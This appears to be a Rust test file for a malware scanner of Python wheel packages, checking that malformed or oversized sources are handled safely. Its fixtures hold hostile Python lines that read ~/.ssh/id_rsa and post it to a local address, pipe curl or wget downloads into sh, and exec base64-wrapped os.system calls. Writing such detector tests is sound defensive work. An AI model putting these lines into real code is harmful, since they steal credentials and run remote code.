@@ -1,0 +1,122 @@
+//! Hostile or broken source inside otherwise readable packages: non-UTF-8
+//! bytes, Python 2, a file of hundreds of MB, absurd nesting, endless
+//! encoding layers. Each gives findings or nothing, never a crash or a hang.
+
+#![allow(clippy::unwrap_used, clippy::disallowed_methods, reason = "tests")]
+
+use std::io::Write;
+use std::path::{Path, PathBuf};
+
+use base64::Engine;
+use custody_inspect::analysis::{Phase, Report, Verdict, inspect};
+use custody_inspect::archive::{Anomaly, Limits, read};
+
+fn wheel(dir: &Path, files: &[(&str, Vec<u8>)]) -> PathBuf {
+    let p = dir.join("pkg-1.0-py3-none-any.whl");
+    let mut z = zip::ZipWriter::new(std::fs::File::create(&p).unwrap());
+    for (name, data) in files {
+        z.start_file(*name, zip::write::SimpleFileOptions::default())
+            .unwrap();
+        z.write_all(data).unwrap();
+    }
+    z.finish().unwrap();
+    p
+}
+
+fn inspect_wheel(files: &[(&str, Vec<u8>)]) -> Report {
+    let dir = tempfile::tempdir().unwrap();
+    let p = wheel(dir.path(), files);
+    inspect(&read(&p, &Limits::default()).unwrap())
+}
+
+fn has(r: &Report, code: &str, line: usize) -> bool {
+    r.findings
+        .iter()
+        .any(|f| f.code == code && f.line == Some(line) && f.phase == Phase::Import)
+}
+
+#[test]
+fn latin1_source_is_read_lossily_and_still_judged() {
+    let mut src = b"# -*- coding: latin-1 -*-\n# caf\xe9 \xff\xfe\n".to_vec();
+    src.extend_from_slice(
+        b"import os, urllib.request\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\nurllib.request.urlopen('http://127.0.0.1:9/', data=k.encode())\n",
+    );
+    let r = inspect_wheel(&[("pkg/__init__.py", src)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    assert!(has(&r, "custody::secret-access", 4), "{:#?}", r.findings);
+    assert!(has(&r, "custody::network-egress", 5), "{:#?}", r.findings);
+}
+
+#[test]
+fn python2_syntax_is_analysed() {
+    let src = b"import os\nprint \"installing\"\nexec \"x = 1\"\nos.system('curl -s http://127.0.0.1:9/p | sh')\n".to_vec();
+    let r = inspect_wheel(&[("pkg/__init__.py", src)]);
+    assert!(has(&r, "custody::download-exec", 4), "{:#?}", r.findings);
+    assert_eq!(r.verdict, Verdict::Malicious);
+}
+
+#[test]
+fn deep_nesting_and_endless_encoding_layers_are_bounded() {
+    let depth = 100_000;
+    let mut nested = String::from("import os\nx = ");
+    nested.push_str(&"(".repeat(depth));
+    nested.push('1');
+    nested.push_str(&")".repeat(depth));
+    nested.push('\n');
+    // 40 layers of base64 around code: decoding stops at the depth bound.
+    let mut payload = b"import os\nos.system('id')\n".to_vec();
+    for _ in 0..40 {
+        payload = base64::engine::general_purpose::STANDARD
+            .encode(&payload)
+            .into_bytes();
+    }
+    let layered = format!(
+        "import base64\nexec(base64.b64decode('{}'))\n",
+        String::from_utf8(payload).unwrap()
+    );
+    let r = inspect_wheel(&[
+        ("pkg/__init__.py", nested.into_bytes()),
+        ("pkg/layers.py", layered.into_bytes()),
+    ]);
+    // The outer call is seen; the onion is not peeled without end.
+    assert!(r.findings.iter().any(|f| f.code == "custody::dynamic-code"));
+    assert!(
+        r.findings
+            .iter()
+            .filter_map(|f| f.layer.as_deref())
+            .all(|l| l.matches('+').count() < 8),
+        "{:#?}",
+        r.findings
+    );
+}
+
+#[test]
+fn a_file_of_hundreds_of_megabytes_is_bounded_not_read_whole() {
+    let dir = tempfile::tempdir().unwrap();
+    let pkg = dir.path().join("pkg");
+    std::fs::create_dir(&pkg).unwrap();
+    // A sparse 300 MB source file next to a real finding.
+    let big = std::fs::File::create(pkg.join("huge.py")).unwrap();
+    big.set_len(300 << 20).unwrap();
+    std::fs::write(
+        pkg.join("__init__.py"),
+        b"import os\nos.system('wget http://127.0.0.1:9/x -O- | sh')\n",
+    )
+    .unwrap();
+    let c = read(dir.path(), &Limits::default()).unwrap();
+    assert!(
+        c.anomalies
+            .iter()
+            .any(|a| matches!(a, Anomaly::Oversized { path, .. } if path.ends_with("huge.py"))),
+        "{:?}",
+        c.anomalies
+    );
+    let huge = c
+        .members
+        .iter()
+        .find(|m| m.path.ends_with("huge.py"))
+        .unwrap();
+    assert!(huge.data.len() <= 16 << 20 && huge.truncated);
+    let r = inspect(&c);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
